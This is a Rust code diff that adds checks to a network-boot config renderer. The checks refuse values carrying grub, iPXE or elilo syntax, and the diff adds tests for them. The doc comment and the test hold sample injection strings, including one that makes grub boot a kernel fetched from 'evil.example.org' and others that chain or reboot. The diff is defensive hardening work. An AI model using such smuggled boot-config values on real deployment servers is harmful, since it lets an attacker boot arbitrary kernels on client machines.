@@ -15,6 +15,12 @@
 //!   `pwh` value each `$` is written `\$` so that the boot loader passes it
 //!   on literally. As in opsi, both key names match as substrings.
 //!
+//! A value written into a grub, iPXE or elilo config must not carry that
+//! format's syntax (a property value `de; linux (http,evil)/vmlinuz; boot`
+//! on a grub `linux` line would boot another kernel): such a config is
+//! refused, naming the value. pxelinux lines have no such syntax; as in
+//! opsi, a value there may add kernel parameters of its own.
+//!
 //! The result holds the host key and a password hash: nothing here logs, and
 //! callers must not log the rendered text either.
 
@@ -22,6 +28,7 @@ use std::collections::HashMap;
 use std::sync::Mutex;
 
 use super::crypt::{CryptError, Salt, dotless_hash};
+use super::template::TemplateFormat;
 use crate::domain::ClientBundle;
 
 /// Distinct passwords whose hash is remembered. Nearly every client shares
@@ -41,6 +48,79 @@ pub enum RenderError {
     /// The password hash could not be made.
     #[error("hashing the boot image password failed: {0}")]
     Hash(#[from] CryptError),
+    /// A value would be syntax in the template's format.
+    #[error("{field}: {ch:?} is {format} syntax; it cannot be written into this template's config")]
+    Syntax {
+        /// The value: `property <id>`, `bootimage_append[<i>]`, `service_address`, `host_key`.
+        field: String,
+        /// The template's format.
+        format: &'static str,
+        /// The character.
+        ch: char,
+    },
+}
+
+/// Every character that is syntax in some format a template can have (see
+/// [`syntax_of`]): a value without any needs no look at the template.
+const ANY_SYNTAX: &[char] = &[
+    '{', '}', '|', '&', '$', ';', '<', '>', '\'', '"', '\\', '#', '`',
+];
+
+/// The characters a value must not bring into a config of `format`, with
+/// the format's name: grub's script quotes, separates commands and expands
+/// variables; iPXE's chains commands and expands settings; elilo's kernel
+/// line is one quoted string.
+fn syntax_of(format: TemplateFormat) -> (&'static str, &'static [char]) {
+    match format {
+        TemplateFormat::Grub => ("grub", ANY_SYNTAX),
+        TemplateFormat::Ipxe => ("iPXE", &['$', '&', '|', ';', '#']),
+        TemplateFormat::Elilo => ("elilo", &['"']),
+        TemplateFormat::Pxelinux | TemplateFormat::Unknown => ("pxelinux", &[]),
+    }
+}
+
+/// Refuses what `bundle` would write into `template` that is syntax in
+/// the template's format (told only when a value has such a character).
+fn check_syntax(template: &str, bundle: &ClientBundle) -> Result<(), RenderError> {
+    let mut format = None;
+    let mut check = |field: &dyn Fn() -> String, value: &str| {
+        if !value.contains(ANY_SYNTAX) {
+            return Ok(());
+        }
+        let (name, syntax) =
+            syntax_of(*format.get_or_insert_with(|| TemplateFormat::detect(template)));
+        match value.chars().find(|c| syntax.contains(c)) {
+            Some(ch) => Err(RenderError::Syntax {
+                field: field(),
+                format: name,
+                ch,
+            }),
+            None => Ok(()),
+        }
+    };
+    for (id, value) in &bundle.properties {
+        if value.contains(ANY_SYNTAX) && template.contains(&format!("%{id}%")) {
+            check(&|| format!("property {id}"), value)?;
+        }
+    }
+    for (i, item) in bundle.bootimage_append.iter().enumerate() {
+        let key = item
+            .split('=')
+            .next()
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        let field = || format!("bootimage_append[{i}]");
+        if key.contains("bootimagerootpassword") {
+            // A password goes on the line as its hash, escaped.
+        } else if key.contains("pwh") {
+            // A given hash's `$` is written escaped (see `Params::to_text`).
+            check(&field, &item.replace('$', ""))?;
+        } else {
+            check(&field, item)?;
+        }
+    }
+    check(&|| "service_address".into(), &bundle.service_address)?;
+    check(&|| "host_key".into(), bundle.client.host_key.expose())
 }
 
 /// How a template line carries the kernel command line.
@@ -238,6 +318,7 @@ impl Renderer {
                 mode: bundle.boot_mode.as_str(),
             });
         }
+        check_syntax(template, bundle)?;
         let params = self.parameters(bundle)?;
         let ipxe = template
             .lines()
@@ -382,6 +463,60 @@ service=https://config.example.org:4447/rpc";
             },
             revision: 1,
         }
+    }
+
+    #[test]
+    fn values_never_bring_the_templates_syntax_along() {
+        let grub = "menuentry 'Install %lang%' {\n  linux (pxe)/install lang=%lang%\n}\n";
+        let ipxe = "#!ipxe\nkernel http://depot/install lang=%lang%\nboot\n";
+        let elilo = "image=/linux/install\n  append=\"lang=%lang%\"\n";
+        let pxelinux = "label install\n  kernel install\n  append lang=%lang%\n";
+        let with = |lang: &str, append: &[&str]| {
+            let mut b = bundle(append);
+            b.properties.insert("lang".into(), lang.into());
+            b
+        };
+        let refused = |template: &str, b: &ClientBundle| match Renderer::new().render(template, b) {
+            Err(RenderError::Syntax { field, format, ch }) => (field, format, ch),
+            other => panic!("expected a refusal, got {other:?}"),
+        };
+        let boot_other = "de; linux (http,evil.example.org)/vmlinuz; boot";
+        assert_eq!(
+            refused(grub, &with(boot_other, &[])),
+            ("property lang".to_owned(), "grub", ';')
+        );
+        assert_eq!(
+            refused(grub, &with("x' { reboot", &[])),
+            ("property lang".to_owned(), "grub", '\'')
+        );
+        assert_eq!(
+            refused(ipxe, &with("de", &["&&", "chain"])),
+            ("bootimage_append[0]".to_owned(), "iPXE", '&')
+        );
+        assert_eq!(
+            refused(elilo, &with("de\" initrd=/evil", &[])),
+            ("property lang".to_owned(), "elilo", '"')
+        );
+        let mut b = with("de", &[]);
+        b.service_address = "https://cfg;reboot;#".into();
+        assert_eq!(
+            refused(grub, &b),
+            ("service_address".to_owned(), "grub", ';')
+        );
+        // pxelinux has no such syntax (as in opsi, a value may add kernel
+        // parameters); elilo's only one is the quote.
+        assert!(
+            Renderer::new()
+                .render(pxelinux, &with(boot_other, &[]))
+                .is_ok()
+        );
+        assert!(Renderer::new().render(elilo, &with("a;b&c", &[])).is_ok());
+        // A value the template does not use is not written; a password
+        // goes as its hash, its `$` escaped.
+        let mut b = with("de", &["bootimagerootpassword=a;b$c"]);
+        b.properties.insert("unused".into(), "x;y".into());
+        let out = Renderer::new().render(grub, &b).unwrap();
+        assert!(out.contains("pwh=\\$6\\$"), "{out}");
     }
 
     fn render(template: &str, append: &[&str]) -> Vec<String> {
